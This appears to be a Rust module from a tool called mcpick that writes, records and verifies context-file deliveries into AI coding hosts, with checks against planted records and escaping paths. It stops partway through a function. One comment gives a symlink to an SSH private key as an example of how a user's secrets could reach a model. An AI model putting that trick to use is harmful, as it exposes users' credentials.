//! A delivery's files and record: where one host's session-start delivery of a set goes (the
//! delivered text, the lines that lead the host to it), derived from the host's profile, and
//! the record of what was written so that `uninstall` takes back exactly those bytes and the
//! refreshers know what to write again.
//!
//! The record is data, not instructions: it is kept in this user's data folder
//! (`deliveries/`, owner-only), and every path it names is derived again ([`layout`]) and must
//! be the recorded one, each checked to stay inside the folder it was derived from
//! ([`fsio::inside`]); a record that disagrees is refused with a message, never followed.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::channel::Placement;
pub use super::lines::Added;
use super::lines::{added_forms, addition, append, take_back};
use super::profile::{At, Channel, Import, Loader, LoaderText, Reached, TURN_LINE};
use super::profiles;
use super::skills::Placed;
use crate::fsio::{self, Perms, write_atomic, write_with};
use crate::hosts::{Host, Places, Scope};

/// The folder beside a set that holds its deliveries.
pub const FOLDER: &str = ".mcpick";
/// Where deliveries were recorded before they moved to the user's data folder.
const LEGACY_RECORD: &str = "deliver.json";
const IGNORE: &str =
    "# Written by mcpick: delivered resource contents stay out of version control.\n*\n";

/// A path added to a list in a host's JSON config (opencode's `instructions`), and whether the
/// list was created for it: taken back, the list is as it was (gone when mcpick made it).
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Listed {
    pub path: PathBuf,
    /// The keys leading to the list.
    pub key: Vec<String>,
    pub value: String,
    pub created: bool,
}

/// One host's delivery of one set.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Delivery {
    pub host: String,
    pub scope: String,
    /// The served entry's name (`mcpick`, or `install --as`).
    pub name: String,
    /// The folder `install` ran in (the project); `None` in a record from before, read as the
    /// set's own folder.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub project: Option<PathBuf>,
    /// The file mcpick writes whole.
    pub file: PathBuf,
    /// The import lines in `CLAUDE.md` / `GEMINI.md`, or the loader file mcpick made whole
    /// (pi's extension).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub import: Option<Added>,
    /// Codex: the `AGENTS.md` the override carries first.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub agents_md: Option<PathBuf>,
    /// Codex in a git repository: the line in `.git/info/exclude`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exclude: Option<Added>,
    /// The skills written into the host's skills folder, each file with its digest.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skills: Vec<Placed>,
    /// opencode: the delivered file's path in its config's `instructions`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub listed: Option<Listed>,
    /// The folders made for `file` (a rules folder the project did not have), outermost
    /// first: taken back with it when nothing else is in them.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub folders: Vec<PathBuf>,
}

impl Delivery {
    pub fn host(&self) -> Option<Host> {
        Host::ALL.into_iter().find(|h| h.name() == self.host)
    }

    /// The recorded host's session-start channel.
    fn channel(&self) -> Option<&'static Channel> {
        profiles::of(self.host()?).start
    }

    /// The scope, as recorded.
    pub fn scope(&self) -> Option<Scope> {
        [Scope::Project, Scope::User]
            .into_iter()
            .find(|s| s.name() == self.scope)
    }

    /// Where the text lands, for rendering it.
    pub fn placement(&self, set: &Path) -> Placement {
        // Claude Code names an imported file by its absolute path, Gemini CLI as imported.
        let as_imported = self
            .channel()
            .is_some_and(|c| matches!(&c.reached, Reached::Import(i) if i.shown_as_imported));
        let shown_path = match &self.import {
            Some(import) if as_imported => import
                .path
                .parent()
                .and_then(|base| relative(&self.file, base)),
            _ => None,
        }
        .unwrap_or_else(|| self.file.display().to_string());
        // The user's `AGENTS.md`, only as the file it is in its folder (a link out of it,
        // `AGENTS.md → ~/.ssh/id_ed25519`, would carry that file to the model).
        let agents_md = self.agents_md.as_ref().and_then(|p| {
            let real = fsio::inside(p, &self.root_of(p, set)).ok()?;
            fsio::read_capped(&real).ok().flatten()
        });
        Placement {
            shown_path,
            folder: self
                .file
                .parent()
                .map(|p| p.display().to_string())
                .unwrap_or_default(),
            agents_md,
            served_as: self.name.clone(),
            set_name: set
                .file_name()
                .map(|n| n.to_string_lossy().into_owned())
                .unwrap_or_default(),
        }
    }

    /// Every file this delivery touches, for `install --list`.
    pub fn files(&self) -> Vec<(&'static str, &Path)> {
        let mut out = vec![("delivered text", self.file.as_path())];
        if let Some(i) = &self.import {
            let loads = self
                .channel()
                .is_some_and(|c| matches!(c.reached, Reached::Loader(_)));
            let what = if loads { "loader" } else { "import lines" };
            out.push((what, i.path.as_path()));
        }
        if let Some(e) = &self.exclude {
            out.push(("git exclude line", e.path.as_path()));
        }
        if let Some(l) = &self.listed {
            let what = match l.key.first().map(String::as_str) {
                Some("plugin") => "plugin entry",
                Some("instructions") => "instructions entry",
                _ => "list entry",
            };
            out.push((what, l.path.as_path()));
        }
        for s in &self.skills {
            out.push(("skill", s.folder.as_path()));
        }
        out
    }

    /// The project the delivery was planned in.
    fn project_or(&self, set: &Path) -> PathBuf {
        self.project.clone().unwrap_or_else(|| folder_of(set))
    }

    /// The folder `path` (one of this delivery's pieces) must stay inside: the set's folder
    /// for its `.mcpick`, the project for the rest of a project delivery, and for a user
    /// delivery the home folder (links among the user's own files are the user's).
    fn root_of(&self, path: &Path, set: &Path) -> PathBuf {
        let set_folder = set.parent().unwrap_or(Path::new("."));
        if path.starts_with(set_folder.join(FOLDER)) {
            return set_folder.to_path_buf();
        }
        if self.scope() == Some(Scope::Project) {
            return self.project_or(set);
        }
        let home = Places::system().home;
        match home {
            Some(home) if path.starts_with(&home) => home,
            _ => path.parent().unwrap_or(Path::new(".")).to_path_buf(),
        }
    }

    /// Every piece checked to stay where it was planned ([`fsio::inside`]), as the real paths
    /// to write: (delivered file, import, exclude).
    fn checked(&self, set: &Path) -> Result<Checked, String> {
        let check = |path: &Path| {
            let real = fsio::inside(path, &self.root_of(path, set)).map_err(|e| e.to_string())?;
            if let Some(why) = fsio::unwritable(&real) {
                return Err(format!(
                    "{} cannot be changed ({why}); mcpick leaves it as it is",
                    path.display()
                ));
            }
            Ok(real)
        };
        Ok(Checked {
            file: check(&self.file)?,
            import: self.import.as_ref().map(|a| check(&a.path)).transpose()?,
            exclude: self.exclude.as_ref().map(|a| check(&a.path)).transpose()?,
            listed: self.listed.as_ref().map(|l| check(&l.path)).transpose()?,
        })
    }
}

/// A delivery's pieces as the files to write (a link's target, checked).
struct Checked {
    file: PathBuf,
    import: Option<PathBuf>,
    exclude: Option<PathBuf>,
    listed: Option<PathBuf>,
}

/// The deliveries recorded for a set.
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct Record {
    pub version: u32,
    /// The set, for a person reading the file (the file's name is a digest of it).
    #[serde(default)]
    pub set: PathBuf,
    pub deliveries: Vec<Delivery>,
    /// Recorded deliveries not followed, and why: for the caller to say.
    #[serde(skip)]
    pub refused: Vec<String>,
    /// A record from before is beside the set and every delivery in it was taken: it can go
    /// once this one is saved.
    #[serde(skip)]
    legacy_taken: bool,
}

/// The set file by absolute path (its folder canonicalised; the file may not exist yet).
pub fn absolute(set: &Path) -> PathBuf {
    let folder = set
        .parent()
        .filter(|p| !p.as_os_str().is_empty())
        .unwrap_or(Path::new("."));
    let folder = std::fs::canonicalize(folder).unwrap_or_else(|_| folder.to_path_buf());
    folder.join(set.file_name().unwrap_or_default())
}

/// The folder beside `set` that holds its deliveries.
fn folder_of(set: &Path) -> PathBuf {
    set.parent()
        .filter(|p| !p.as_os_str().is_empty())
        .unwrap_or(Path::new("."))
        .join(FOLDER)
}

/// This user's record of `set` (absolute): `DATA/deliveries/DIGEST.json`.
fn store_path(set: &Path) -> Option<PathBuf> {
    let digest = Sha256::digest(set.as_os_str().as_encoded_bytes());
    let key: String = digest[..16].iter().map(|b| format!("{b:02x}")).collect();
    Some(
        crate::places::data_dir()?
            .join("deliveries")
            .join(format!("{key}.json")),
    )
}

fn parse_record(text: &str) -> Result<Record, String> {
    serde_json::from_str(text).map_err(|e| format!("cannot be read: {e}"))
}

impl Record {
    /// The deliveries recorded for `set` (absolute) that pass [`verify`]; the others are in
    /// `refused`. None when there is no delivery.
    pub fn load(set: &Path) -> Record {
        let set = &absolute(set);
        let mut out = Record {
            version: 2,
            set: set.to_path_buf(),
            ..Record::default()
        };
        if let Some(path) = store_path(set) {
            match fsio::read_capped(&path).map_err(|e| e.to_string()) {
                Ok(None) => {}
                Ok(Some(text)) => match parse_record(&text) {
                    Ok(record) => out.take(record.deliveries, set, false),
                    Err(why) => out.refused.push(format!("{}: {why}", path.display())),
                },
                Err(why) => out.refused.push(why),
            }
        }
        let legacy = folder_of(set).join(LEGACY_RECORD);
        if let Some(root) = set.parent()
            && std::fs::symlink_metadata(&legacy).is_ok()
        {
            match fsio::inside(&legacy, root)
                .and_then(|real| fsio::read_capped(&real))
                .map_err(|e| e.to_string())
            {
                Ok(Some(text)) => match parse_record(&text) {
                    Ok(record) => {
                        let refused = out.refused.len();
                        out.take(record.deliveries, set, true);
                        out.legacy_taken = out.refused.len() == refused;
                    }
                    Err(why) => out.refused.push(format!("{}: {why}", legacy.display())),
                },
                Ok(None) => {}
                Err(why) => out.refused.push(why),
            }
        }
        out
    }

    /// Keeps the deliveries that pass [`verify`] and are not already kept.
    fn take(&mut self, deliveries: Vec<Delivery>, set: &Path, legacy: bool) {
        for mut d in deliveries {
            if self
                .deliveries
                .iter()
                .any(|k| same(k, &d.host, &d.scope, &d.name))
            {
                continue;
            }
            if legacy {
                // A record in the project could have been planted: only what stays in the
                // project's own folder is read from it.
                d.project = None;
                if d.scope != Scope::Project.name() {
                    self.refused.push(format!(
                        "the {} delivery to {} recorded in {} was not followed: a record in the project names only project deliveries; run `mcpick install {} --scope user` again to record it in your own data folder",
                        d.scope,
                        crate::sanitize::line(&d.host, 100),
                        folder_of(set).join(LEGACY_RECORD).display(),
                        crate::sanitize::line(&d.host, 100),
                    ));
                    continue;
                }
            }
            match verify(&d, set) {
                Ok(()) => self.deliveries.push(d),
                Err(why) => self.refused.push(why),
            }
        }
    }

    /// Writes the record to this user's data folder (owner-only); the record
    /// from before, beside the set, is gone once its deliveries are here.
    fn save(&self, set: &Path) -> std::io::Result<()> {
        let path = store_path(set)
            .ok_or_else(|| std::io::Error::other("cannot tell where the user data folder is"))?;
        let folder = path.parent().unwrap_or(Path::new("."));
        fsio::private_dir(folder)?;
        if self.deliveries.is_empty() {
            remove_if_exists(&path)?;
            // Only when no other set's record is left in it.
            let _ = std::fs::remove_dir(folder);
        } else {
            let mut text = serde_json::to_string_pretty(&Record {
                version: 2,
                set: set.to_path_buf(),
                deliveries: self.deliveries.clone(),
                ..Record::default()
            })
            .map_err(std::io::Error::other)?;
            text.push('\n');
            write_with(&path, text.as_bytes(), Perms::Private)?;
        }
        let legacy = folder_of(set).join(LEGACY_RECORD);
        if self.legacy_taken
            && let Some(root) = set.parent()
            && let Ok(real) = fsio::inside(&legacy, root)
        {
            remove_if_exists(&real)?;
        }
        Ok(())
    }
}

fn same(d: &Delivery, host: &str, scope: &str, name: &str) -> bool {
    d.host == host && d.scope == scope && d.name == name
}

/// Checks a recorded delivery against the plan: its host has a channel, and every path and
/// every added text is what [`layout`] derives for its host, scope, name and project now.
fn verify(d: &Delivery, set: &Path) -> Result<(), String> {
    let who = format!(
        "the recorded {} delivery `{}` to {}",
        crate::sanitize::line(&d.scope, 40),
        crate::sanitize::line(&d.name, 200),
        crate::sanitize::line(&d.host, 100)
    );
    let refuse = |what: &str| {
        Err(format!(
            "{who} was not followed: {what} is not what mcpick would write (the record was edited, planted, or made in another folder); `mcpick install {}` records it again",
            crate::sanitize::line(&d.host, 100)
        ))
    };
    let (Some(channel), Some(scope)) = (d.channel(), d.scope()) else {
        return refuse("its host or scope");
    };
    let mut places = Places::system();
    places.project = d.project_or(set);
    let planned = layout(channel, scope, &places, set, &d.name, Some(&d.file), true)
        .map_err(|why| format!("{who}: {why}"))?;
    if d.file != planned.file {
        return refuse("its file");
    }
    if d.agents_md != planned.agents_md {
        return refuse("its AGENTS.md");
    }
    // Only folders on the way to the file, inside the project: a planted record cannot have
    // `uninstall` remove any other (and `remove_dir` takes only empty ones).
    let project = &places.project;
    // A loader's folders lead to the loader.
    let made_for = match (&channel.reached, &planned.import) {
        (Reached::Loader(_), Some(loader)) => &loader.path,
        _ => &planned.file,
    };
    if d.folders.iter().any(|f| {
        f == project || !f.starts_with(project) || !made_for.starts_with(f) || f == made_for
    }) {
        return refuse("its folders");
    }
    match (&d.listed, &planned.listed) {
        (None, _) => {}
        (Some(r), Some(p)) if (&r.path, &r.key, &r.value) == (&p.path, &p.key, &p.value) => {}
        _ => return refuse("its instructions entry"),
    }
    for (recorded, planned, what) in [
        (&d.import, &planned.import, "its import"),
        (&d.exclude, &planned.exclude, "its git exclude line"),
    ] {
        match (recorded, planned) {
            (None, _) => {}
            (Some(r), Some(p))
                if r.path == p.path
                    && (added_forms(&p.text).contains(&r.text)
                        || matches!(channel.reached, Reached::Loader(_))
                            && same_loader(&r.text, &p.text)) => {}
            _ => return refuse(what),
        }
    }
    if !d.skills.is_empty() {
        let Some(folder) = profiles::of(channel.host).skills else {
            return refuse("its skills");
        };
        let (root, _) = folder
            .root(scope, &places.project, &places)
            .map_err(|why| format!("{who}: {why}"))?;
        for s in &d.skills {
            if crate::skills::check_name(&s.name).is_err()
                || s.folder != root.join(&s.name)
                || s.files
                    .iter()
                    .any(|f| crate::skills::check_path(&f.path).is_err())
            {
                return refuse("a skill folder");
            }
            // Its git exclude line: exactly the one mcpick derives for the folder.
            if let Some(e) = &s.exclude {
                match super::skills::exclude_line(&places.project, &s.folder) {
                    Some((path, line))
                        if scope == Scope::Project
                            && e.path == path
                            && added_forms(&line).contains(&e.text) => {}
                    _ => return refuse("a skill folder's git exclude line"),
                }
            }
        }
    }
    Ok(())
}

/// The skills recorded as written by the delivery of `delivery`'s host, scope and name.
pub fn recorded_skills(set: &Path, delivery: &Delivery) -> Vec<Placed> {
    Record::load(set)
        .deliveries
        .into_iter()
        .find(|d| same(d, &delivery.host, &delivery.scope, &delivery.name))
        .map(|d| d.skills)
        .unwrap_or_default()
}

/// Records `skills` as what `delivery` (of `set`) has written into the host's skills folder.
pub fn record_skills(set: &Path, delivery: &Delivery, skills: Vec<Placed>) -> std::io::Result<()> {
    let mut record = Record::load(set);
    let Some(d) = record
        .deliveries
        .iter_mut()
        .find(|d| same(d, &delivery.host, &delivery.scope, &delivery.name))
    else {
        return Ok(());
    };
    d.skills = skills;
    verify(d, set).map_err(std::io::Error::other)?;
    record.save(set)
}

fn remove_if_exists(path: &Path) -> std::io::Result<()> {
    match std::fs::remove_file(path) {
        Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e),
        _ => Ok(()),
    }
}

/// Where `host`'s delivery of `set` (absolute) goes and the exact lines it appends, derived
/// from the host, scope, name and places alone: nothing is read. `per_turn`: a loader also
/// hands on each turn's change ([`super::profile::LoaderText::turn`]).
fn layout(
    channel: &Channel,
    scope: Scope,
    places: &Places,
    set: &Path,
    name: &str,
    recorded: Option<&Path>,
    per_turn: bool,
) -> Result<Delivery, String> {
    let host = channel.host;
    let folder = folder_of(set);
    let mut delivery = Delivery {
        host: host.name().to_string(),
        scope: scope.name().to_string(),
        name: name.to_string(),
        project: (scope == Scope::Project).then(|| places.project.clone()),
        file: folder.join(format!("{}.{}.md", file_safe(name), host.name())),
        import: None,
        agents_md: None,
        exclude: None,
        skills: Vec::new(),
        listed: None,
        folders: Vec::new(),
    };
    match &channel.reached {
        Reached::Rules(rules) => {
            // A file of mcpick's own in the project's rules folder, out of git like an
            // override: it holds resource contents.
            if scope != Scope::Project {
                return Err(format!(
                    "{} reads the set only from the project",
                    host.dialect().host_name
                ));
            }
            let folder = match (rules.read_instead, recorded) {
                // A recorded delivery stays in the folder it was written to, even once the
                // project has (or no longer has) the folder read instead.
                (Some(instead), Some(file)) if file.starts_with(places.project.join(instead)) => {
                    instead
                }
                (Some(instead), None) if places.project.join(instead).is_dir() => instead,
                _ => rules.folder,
            };
            let rel = format!("{folder}/{}.{}", file_safe(name), rules.extension);
            delivery.file = places.project.join(&rel);
            delivery.exclude = git_exclude(&places.project, &format!("/{rel}\n"));
        }
        Reached::Import(import) => {
            delivery.import = Some(import_lines(import, host, scope, places, &mut delivery)?);
        }
        Reached::Listed(key) => {
            // The host reads the files its config's list names: the project's config names the
            // file relative to the project, the user's config by its absolute path.
            let config = host.dialect().file(scope, places).ok_or_else(|| {
                format!("cannot tell where {}'s config is", host.dialect().host_name)
            })?;
            let value = match (scope, relative(&delivery.file, &places.project)) {
                (Scope::Project, Some(rel)) => rel,
                (Scope::Project, None) => return Err("the set is outside the project".into()),
                (Scope::User, _) => delivery.file.display().to_string(),
            };
            delivery.listed = Some(Listed {
                path: config,
                key: vec![key.to_string()],
                value,
                created: false,
            });
        }
        Reached::Loader(loader) => {
            let turn = match per_turn {
                true => Some(super::hooks::command(host, scope, places, set, name)?),
                false => None,
            };
            let file = loader_file(loader, host, scope, places, &delivery, turn.as_deref())?;
            if let Some(key) = loader.listed_in {
                // Named in the host's config: a project's by its path from the project (`./`,
                // so it is not taken for a package), a user's by its `file://` URL.
                let config = host.dialect().file(scope, places).ok_or_else(|| {
                    format!("cannot tell where {}'s config is", host.dialect().host_name)
                })?;
                let value = match (scope, relative(&file.path, &places.project)) {
                    (Scope::Project, Some(rel)) => format!("./{rel}"),
                    (Scope::Project, None) => return Err("the set is outside the project".into()),
                    (Scope::User, _) => format!("file://{}", file.path.display()),
                };
                delivery.listed = Some(Listed {
                    path: config,
                    key: vec![key.to_string()],
                    value,
                    created: false,
                });
            }
            delivery.import = Some(file);
        }
        Reached::Override(over) => {
            let dir = match scope {
                Scope::Project => places.project.clone(),
                Scope::User => (over.user_folder)(places).ok_or_else(no_home)?,
            };
            delivery.file = dir.join(over.file);
            delivery.agents_md = Some(dir.join(over.replaces));
            if scope == Scope::Project {
                delivery.exclude = git_exclude(&places.project, &format!("/{}\n", over.file));
            }
        }
    }
    Ok(delivery)
}

fn no_home() -> String {
    "cannot tell where the home directory is".to_string()
}

/// The two lines that import `delivery`'s file from the host's instructions file (a user
/// delivery moved beside that file first, where the host imports only from under its folder).
fn import_lines(
    import: &Import,
    host: Host,
    scope: Scope,
    places: &Places,
    delivery: &mut Delivery,
) -> Result<Added, String> {
    let at = match scope {
        Scope::Project => import.project,
        Scope::User => import.user,
    };
    let import_file = match at {
        At::Project(rel) => places.project.join(rel),
        At::Home(rel) => places.home.clone().ok_or_else(no_home)?.join(rel),
    };
    if scope == Scope::User && import.user_beside {
        let folder = import_file
            .parent()
            .unwrap_or(Path::new("."))
            .join("mcpick");
        delivery.file = folder.join(format!("{}.{}.md", file_safe(&delivery.name), host.name()));
    }
    // Imports are relative to the importing file where they can be (what a project commits);
    // a user file imports a set elsewhere by its absolute path.
    let base = import_file.parent().unwrap_or(Path::new("."));
    let target = match (scope, relative(&delivery.file, base)) {
        (_, Some(rel)) => rel,
        (Scope::User, None) => delivery.file.display().to_string(),
        (Scope::Project, None) => return Err("the set is outside the project".into()),
    };
    let target = import_path(host, &target)?;
    let block = format!(
        "<!-- mcpick: the context set, delivered at session start (`mcpick uninstall {}{}` removes these two lines) -->\n@{target}\n",
        host.name(),
        if scope == Scope::User {
            " --scope user"
        } else {
            ""
        }
    );
    Ok(Added {
        path: import_file,
        text: block,
        created: false,
    })
}

/// The loader file that reads `delivery`'s file for the host: made whole by mcpick, named by
/// the served name, pointing at the delivered file relative to its folder (a user's by its
/// absolute path), running `turn` on each later prompt.
fn loader_file(
    loader: &Loader,
    host: Host,
    scope: Scope,
    places: &Places,
    delivery: &Delivery,
    turn: Option<&str>,
) -> Result<Added, String> {
    let at = match scope {
        Scope::Project => loader.project,
        Scope::User => loader.user,
    };
    let folder = match at {
        // Listed in the host's config: beside the delivered file.
        _ if loader.listed_in.is_some() => delivery
            .file
            .parent()
            .unwrap_or(Path::new("."))
            .to_path_buf(),
        At::Project(rel) => places.project.join(rel),
        At::Home(rel) => places.home.clone().ok_or_else(no_home)?.join(rel),
    };
    // A project's loader names the file from its own folder, up to the project and down:
    // what the project commits holds no absolute path.
    let (target, root) = match (at, relative(&delivery.file, &places.project)) {
        (_, Some(_)) if loader.listed_in.is_some() && scope == Scope::Project => {
            let name = delivery.file.file_name().unwrap_or_default();
            let up = relative(&folder, &places.project)
                .map(|rel| "../".repeat(rel.split('/').count()))
                .unwrap_or_default();
            (name.to_string_lossy().into_owned(), up)
        }
        (At::Project(rel), Some(file)) => {
            let up = "../".repeat(rel.split('/').count());
            (format!("{up}{file}"), up)
        }
        (At::Project(_), None) => return Err("the set is outside the project".into()),
        // A user's loader runs `mcpick turn` on the set by its absolute path: where it runs
        // matters not, and the delivered file's folder is one that stays the same.
        (At::Home(_), _) => (
            delivery.file.display().to_string(),
            delivery
                .file
                .parent()
                .unwrap_or(Path::new("/"))
                .display()
                .to_string(),
        ),
    };
    Ok(Added {
        path: folder.join(format!(
            "{}.{}",
            file_safe(&delivery.name),
            loader.extension
        )),
        text: (loader.code)(&LoaderText {
            target: &target,
            root: &root,
            host: host.name(),
            turn,
        }),
        created: true,
    })
}

/// Whether the loader text `found` is `planned`'s delivery (every line the same but the
/// [`TURN_LINE`]), with a per-turn command that is the same (`mcpick turn HOST --set SET …`,
/// `mcpick` from any folder or through `npx -y mcpick@VERSION`), or none (`--deliver start`,
/// inert). A command `planned` does not name is never one mcpick would write: a loader that
/// runs anything else is not mcpick's, whatever its other lines say.
pub fn same_loader(found: &str, planned: &str) -> bool {
    let (found_lines, found_turn) = turn_of(found);
    let (planned_lines, planned_turn) = turn_of(planned);
    let agree = match (found_turn, planned_turn) {
        (Some(None), Some(_)) => true,
        (Some(Some(f)), Some(Some(p))) => {
            let tail = |cmd: &str| {
                let words = super::hooks::shell_words(cmd)?;
                let program = crate::hosts::mcpick_words(&words);
                (program > 0).then(|| words[program..].to_vec())
            };
            tail(&f).is_some() && tail(&f) == tail(&p)
        }
        _ => false,
    };
    agree && found_lines == planned_lines
}

/// A loader's lines but its [`TURN_LINE`], and that line's command: `None` when it has no such
/// line (or one that is not a JSON string or `null`), `Some(None)` for `null`.
fn turn_of(text: &str) -> (Vec<&str>, Option<Option<String>>) {
    let mut turn = None;
    let lines = text
        .split('\n')
        .filter(|l| match l.strip_prefix(TURN_LINE) {
            Some(rest) => {
                turn = rest
                    .strip_suffix(';')
                    .and_then(|v| serde_json::from_str::<Option<String>>(v).ok());
                false
            }
            None => true,
        })
        .collect();
    (lines, turn)
}

/// The `line` for the git repository's local exclude file, where `project` is one.
fn git_exclude(project: &Path, line: &str) -> Option<Added> {
    project.join(".git").is_dir().then(|| Added {
        path: project.join(".git").join("info").join("exclude"),
        text: line.into(),
        created: false,
    })
}

/// The folders between `project` and `file` that do not exist yet, outermost first.
fn missing_folders(project: &Path, file: &Path) -> Vec<PathBuf> {
    let mut missing: Vec<PathBuf> = file
        .ancestors()
        .skip(1)
        .take_while(|f| f.starts_with(project) && *f != project)
        .filter(|f| std::fs::symlink_metadata(f).is_err())
        .map(Path::to_path_buf)
        .collect();
    missing.reverse();
    missing
}

/// Where `host`'s delivery of `set` goes, before anything is written. `set` is absolute.
/// Every piece is checked here ([`fsio::inside`], writable, not a hand-written override), so
/// a refusal comes before anything is written.
pub fn plan(
    channel: &Channel,
    scope: Scope,
    places: &Places,
    set: &Path,
    name: &str,
    per_turn: bool,
) -> Result<Delivery, String> {
    let mut delivery = layout(channel, scope, places, set, name, None, per_turn)?;
    let checked = delivery.checked(set)?;
    owned_file_is_ours(&delivery, &checked.file)?;
    if channel.rules().is_some() {
        delivery.folders = missing_folders(&places.project, &delivery.file);
    }
    if let (Reached::Loader(_), Some(loader), Scope::Project) =
        (&channel.reached, &delivery.import, scope)
    {
        delivery.folders = missing_folders(&places.project, &loader.path);
    }
    if let Reached::Override(_) = &channel.reached {
        // The override carries the user's own file: one mcpick cannot read where it is would
        // vanish from the host's context unsaid.
        if let Some(agents) = &delivery.agents_md
            && std::fs::symlink_metadata(agents).is_ok()
        {
            fsio::inside(agents, &delivery.root_of(agents, set))
                .and_then(|real| fsio::read_capped(&real))
                .map_err(|e| {
                    format!(
                        "{e}; {} reads the override in place of it, so mcpick cannot deliver there (use --deliver on-demand)",
                        channel.host.dialect().host_name
                    )
                })?;
        }
    }
    // A loader there already: mcpick's own from an earlier install of this delivery is written
    // again whole (its per-turn command may differ); one it did not make (a clone's committed
    // copy) is left as it is and never taken back, and it must be one mcpick would write, its
    // per-turn command included ([`same_loader`]).
    let recorded_made = Record::load(set)
        .deliveries
        .iter()
        .find(|d| same(d, &delivery.host, &delivery.scope, &delivery.name))
        .and_then(|d| d.import.as_ref())
        .is_some_and(|i| i.created);
    if let (Reached::Loader(_), Some(added), Some(real)) =
        (&channel.reached, delivery.import.as_mut(), &checked.import)
        && let Some(there) = fsio::read_capped(real).map_err(|e| e.to_string())?
    {
        if !recorded_made && !same_loader(&there, &added.text) {
            return Err(format!(
                "{} exists and is not what mcpick writes: mcpick never replaces it (install under another name with --as, or use --deliver on-demand)",
                added.path.display()
            ));
        }
        if !recorded_made {
            added.text = there;
            added.created = false;
        }
    }
    // A loader mcpick makes is written whole (see [`write`]); the rest is appended.
    let loader = matches!(channel.reached, Reached::Loader(_));
    for (added, real) in [
        (&mut delivery.import, &checked.import),
        (&mut delivery.exclude, &checked.exclude),
    ] {
        if let (Some(added), Some(real)) = (added.as_mut(), real)
            && !(loader && added.created)
        {
            *added = addition(&added.path, real, &added.text)?;
        }
    }
    if let (Some(listed), Some(real)) = (delivery.listed.as_mut(), &checked.listed) {
        let doc = list_doc(&listed.path, real)?;
        let key: Vec<&str> = listed.key.iter().map(String::as_str).collect();
        listed.created = doc.elements(&key)?.is_none();
    }
    Ok(delivery)
}

/// Whether `text`, the delivered file of a delivery through `channel`, is one mcpick wrote:
/// an override and the IDE hosts' rules files sit where the user's own files go, and carry
/// mcpick's mark; the files in `.mcpick/` are mcpick's by their place.
fn written_by_mcpick(channel: Option<&Channel>, text: &str) -> bool {
    match channel.map(|c| &c.reached) {
        Some(Reached::Rules(rules)) => rules.is_ours(text),
        Some(Reached::Override(over)) => text.starts_with(over.marker),
        _ => true,
    }
}

/// A delivered file there (`real`) that mcpick did not write is the user's, and is never
/// replaced: an override is read in place of the user's own file; a rules file of the same
/// name is the user's rule.
fn owned_file_is_ours(delivery: &Delivery, real: &Path) -> Result<(), String> {
    let Some(channel) = delivery.channel() else {
        return Ok(());
    };
    match fsio::read_capped(real) {
        Ok(Some(existing)) if !written_by_mcpick(Some(channel), &existing) => {
            Err(match &channel.reached {
                Reached::Override(over) => format!(
                    "{} exists and is not mcpick's: {} reads it in place of {}, so mcpick cannot deliver there (use --deliver on-demand)",
                    delivery.file.display(),
                    channel.host.dialect().host_name,
                    over.replaces
                ),
                _ => format!(
                    "{} exists and is not mcpick's: mcpick never replaces it (install under another name with --as, or use --deliver on-demand)",
                    delivery.file.display()
                ),
            })
        }
        Ok(_) => Ok(()),
        Err(e) => Err(e.to_string()),
    }
}

/// `target` as `host` reads an `@` import (measured in their sources: Claude Code 2.x
/// `(?:^|\s)@((?:[^\s\\]|\\ )+)`, cut at `#`; Gemini CLI ends a path at white space
/// and takes one that starts with `.`, `/` or a letter). A path the host would read as
/// another (or not at all) is refused, so `install` never reports a delivery the host drops.
fn import_path(host: Host, target: &str) -> Result<String, String> {
    let host_name = host.dialect().host_name;
    let refuse = |what: &str| {
        Err(format!(
            "the delivered file's path `{}` holds {what}, which {host_name}'s `@` imports cannot carry: move the set to a folder without it, or use --deliver on-demand",
            crate::sanitize::line(target, 1000)
        ))
    };
    let mut out = String::with_capacity(target.len() + 2);
    if !target.starts_with(['.', '/']) && !target.starts_with(|c: char| c.is_ascii_alphabetic()) {
        out.push_str("./");
    }
    // A host that takes `\ ` for a space ends a path at `#`.
    let escaped = profiles::of(host)
        .start
        .is_some_and(|c| matches!(&c.reached, Reached::Import(i) if i.escaped_spaces));
    for c in target.chars() {
        match (escaped, c) {
            (true, ' ') => out.push_str("\\ "),
            (true, '#') => return refuse("a `#`"),
            (_, '\\') => return refuse("a backslash"),
            (_, c) if c.is_whitespace() || c.is_control() => return refuse("white space"),
            (_, c) => out.push(c),
        }
    }
    Ok(out)
}

/// A name as a file name part: letters, digits, `-`, `_`, `.`; anything else `_`.
fn file_safe(name: &str) -> String {
    name.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// `path` relative to `base` (both absolute), with `/` separators.
fn relative(path: &Path, base: &Path) -> Option<String> {
    let rel = path.strip_prefix(base).ok()?;
    Some(
        rel.components()
            .map(|c| c.as_os_str().to_string_lossy().into_owned())
            .collect::<Vec<_>>()
            .join("/"),
    )
}

/// Writes `delivery`'s pieces (the delivered `text`, the import or exclude lines) and records
/// it for `set`, replacing an earlier record of the same host, scope and name. Every piece is
/// checked before the first byte is written.
pub fn write(set: &Path, delivery: &Delivery, text: &str) -> std::io::Result<()> {
    let mut record = Record::load(set);
    let earlier = record
        .deliveries
        .iter()
        .position(|d| same(d, &delivery.host, &delivery.scope, &delivery.name));
    let mut delivery = delivery.clone();
    let loader = delivery
        .channel()
        .is_some_and(|c| matches!(c.reached, Reached::Loader(_)));
    if let Some(at) = earlier {
        // Installed before: its lines are already there; keep what was added then (a loader
        // is written whole again: its per-turn command may have changed).
        let old = record.deliveries.remove(at);
        if !loader {
            delivery.import = old.import.or(delivery.import);
        }
        delivery.exclude = old.exclude.or(delivery.exclude);
        delivery.listed = old.listed.or(delivery.listed);
        if !old.folders.is_empty() {
            delivery.folders = old.folders;
        }
    }
